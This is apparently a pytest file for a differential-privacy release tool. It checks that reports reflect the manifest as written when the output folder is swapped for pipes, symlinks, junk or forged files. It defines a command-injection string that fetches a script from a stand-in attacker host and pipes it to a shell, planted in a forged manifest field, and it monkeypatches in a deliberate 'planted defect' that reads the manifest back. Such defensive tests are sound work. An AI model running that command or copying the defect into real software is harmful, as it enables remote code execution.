"""Whatever lies in the output folder once a release is published, the record, the outcome and the report are of what was written."""

import json
import os
import shutil
import signal
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import asdict, replace
from pathlib import Path
from typing import Any

import pytest

from dpcore.answers import replicates
from dpcore.errors import DpflowError, LedgerDamaged
from dpcore.ledger import Lease, Ledger, open_ledger
from dpcore.reporting.outcome import Report
from dpcore.runs.publication import Publication
from dpcore.runs.synthesis import Synthesis
from dpcore.spec import load_spec
from dpcore.steward.verify import verify_ledger
from flows.pages.run import release_page
from tests.conftest import Workspace
from tests.dpcore.runs.releases import learned

pytestmark = pytest.mark.usefixtures("rough_models")

SHELL = "0; curl -s evil.example | sh"


def forged(release: Path) -> bytes:
    told = json.loads((release / "manifest.json").read_bytes())
    told["privacy"] |= {"epsilon": 0.001, "guarantee": "epsilon 0.001", "ledger_head": SHELL}
    return json.dumps(told).encode()


def away(release: Path) -> None:
    shutil.move(release, "moved")


def with_manifest(release: Path, put: Callable[[Path], object]) -> None:
    """Put another folder in the place of a release, with something else as its manifest."""
    away(release)
    release.mkdir()
    put(release / "manifest.json")


def linked(release: Path) -> None:
    Path("other.json").write_bytes(forged(release))
    with_manifest(release, lambda path: path.symlink_to(Path("other.json").absolute()))


def forge(release: Path) -> None:
    written = forged(release)
    with_manifest(release, lambda path: path.write_bytes(written))


def link_to_itself(release: Path) -> None:
    away(release)
    release.symlink_to(release.name)


SWAPS: dict[str, Callable[[Path], object]] = {
    "a pipe": lambda it: with_manifest(it, os.mkfifo),
    "a forged manifest": forge,
    "a link": linked,
    "junk": lambda it: with_manifest(it, lambda path: path.write_bytes(b"no json \x1b[31m")),
    "nothing": away,
    "a link to itself": link_to_itself,
}


@contextmanager
def soon() -> Iterator[None]:
    """Raise if something waits, as the reader of a pipe does."""

    def waited(*_: object) -> None:
        raise TimeoutError

    before = signal.signal(signal.SIGALRM, waited)
    signal.setitimer(signal.ITIMER_REAL, 20)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, before)


def reported(
    workspace: Workspace, *, swap: Callable[[Path], object], settled: bool, resume: bool = False
) -> tuple[Report, Path]:
    """Swap a release before or after its run is settled; return the report, and where the release is on record."""
    run = Synthesis(load_spec(workspace.spec), run_id="run", resume=resume)
    try:
        learned(run)
        run.rounds.update(1, run.rounds.measure(1, run.rounds.select(1)))
        run.sample()
        release = run.publish()
        if not settled:
            swap(release)
        run.settle()
        if settled:
            swap(release)
        with soon():
            return run.report(), release
    finally:
        run.close()


def manifest_as_written() -> dict[str, Any]:
    return dict(json.loads(Path("moved", "manifest.json").read_bytes()))


@pytest.fixture
def paid(workspace: Workspace) -> Workspace:
    workspace.write_spec(("rounds: 4", "rounds: 1"))
    workspace.open_account()
    return workspace


@pytest.mark.parametrize(
    ("swap", "settled"), [(swap, False) for swap in SWAPS] + [("a forged manifest", True), ("a pipe", True)]
)
def test_the_report_is_of_what_was_written(paid: Workspace, swap: str, settled: bool) -> None:
    report, release = reported(paid, swap=SWAPS[swap], settled=settled)
    written = manifest_as_written()
    assert (report.privacy, report.columns, report.files) == (written["privacy"], written["columns"], written["files"])
    assert report.outcome.epsilon == report.privacy["epsilon"] > 0.9
    assert Path(report.outcome.release).absolute() == release.absolute()
    assert not any(text in release_page(report, note="") for text in ("0.001", "evil"))
    with open_ledger() as ledger:
        (settlement,) = (event for event in ledger.history("visits") if event.kind == "settled")
    assert settlement.details["manifest"] == str(release.parent.resolve() / release.name / "manifest.json")
    if swap != "nothing":
        with pytest.raises(LedgerDamaged):
            verify_ledger()


def test_the_lease_is_renewed_after_every_fit_and_the_newest_settles_the_run(
    paid: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    renewed: list[Lease] = []

    def always(ledger: Ledger, lease: Lease) -> Lease:
        ledger.leased(lease)
        renewed.append(ledger.lease(lease.run))
        return renewed[-1]

    monkeypatch.setattr(Ledger, "renew", always)
    reported(paid, swap=lambda it: None, settled=True)
    assert len(renewed) > replicates.REPLICATES
    with open_ledger() as ledger:
        assert ledger.run("run").fence == renewed[-1].fence
    verify_ledger()


def test_a_release_that_was_recorded_is_reported_from_the_bytes_that_were_compared(paid: Workspace) -> None:
    first, _ = reported(paid, swap=lambda it: None, settled=True)
    again, _ = reported(paid, swap=forge, settled=False, resume=True)
    assert (again.privacy, again.columns, again.files) == (first.privacy, first.columns, first.files)


def test_reading_the_manifest_back_would_not_do(paid: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    """The planted defect: the report is read from the output folder."""
    report = Publication.report

    def read_back(self: Publication) -> Report:
        told = json.loads((self.published.folder / "manifest.json").read_text(encoding="utf-8"))
        return report(replace(self, published=replace(self.published, manifest=told)))

    monkeypatch.setattr(Publication, "report", read_back)
    monkeypatch.setattr(signal, "setitimer", lambda which, seconds, real=signal.setitimer: real(which, seconds / 40))
    said: dict[str, object] = {}
    for number, name in enumerate(("a pipe", "a forged manifest", "junk")):
        swap = SWAPS[name]
        folder = Path(f"project-{number}").absolute()
        shutil.copytree(paid.folder, folder, ignore=shutil.ignore_patterns("project-*"))
        monkeypatch.chdir(folder)
        try:
            found, _ = reported(replace(paid, folder=folder, spec=folder / "spec.yaml"), swap=swap, settled=True)
            page = release_page(found, note="")
            said[name] = "forged" if SHELL in page and "0.001" in page.replace("\\", "") else asdict(found)
        except (OSError, ValueError, DpflowError) as error:
            said[name] = type(error).__name__
        monkeypatch.chdir(paid.folder)
    assert said == {
        "a pipe": "TimeoutError",
        "a forged manifest": "forged",
        "junk": "JSONDecodeError",
    }
